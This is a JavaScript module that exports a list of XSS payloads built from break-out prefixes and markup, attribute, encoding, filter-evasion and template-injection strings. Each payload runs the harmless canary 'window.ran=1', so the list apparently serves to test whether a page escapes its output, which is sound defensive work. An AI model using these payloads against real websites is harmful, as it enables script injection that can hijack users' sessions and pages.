const canary = "window.ran=1";

/** What breaks out of text, of attributes in either quote, of elements with text of their own, of scripts and of URLs. */
const starts = ["", '"', "'", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</p>"];

const markup = [
  `<script>${canary}</script>`,
  `<img src=x onerror=${canary}>`,
  `<svg onload=${canary}>`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
];

const attributes = [
  `" onfocus="${canary}" autofocus="`,
  `' onfocus='${canary}' autofocus='`,
  `x onfocus=${canary} autofocus `,
];

const others = [
  `<scr<script>ipt>${canary}</script>`,
  `<IMG SRC=x OnErRoR="${canary}">`,
  `<svg><animate onbegin=${canary} attributeName=x dur=1s>`,
  `<details open ontoggle=${canary}>`,
  `<video><source onerror=${canary}></video>`,
  `<body onload=${canary}>`,
  `<style>@import "javascript:${canary}"</style><b style="animation:x" onanimationstart=${canary}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${canary}">`,
  `<base href="javascript:${canary}//">`,
  `<object data="javascript:${canary}">`,
  `<math><mtext></p><img src=x onerror=${canary}></mtext></math>`,
  `&lt;script&gt;${canary}&lt;/script&gt;`,
  `&#60;script&#62;${canary}&#60;/script&#62;`,
  `\u003cscript\u003e${canary}\u003c/script\u003e`,
  `%3Cscript%3E${canary}%3C/script%3E`,
  `javascript:${canary}`,
  `\${${canary}}`,
  `{{constructor.constructor('${canary}')()}}`,
  `\u2028${canary}//`,
  `＜script＞${canary}＜/script＞`,
];

/** Texts that run `window.ran=1` in a page which writes them as they are. */
export const payloads = [...starts.flatMap((start) => markup.map((text) => start + text)), ...attributes, ...others];
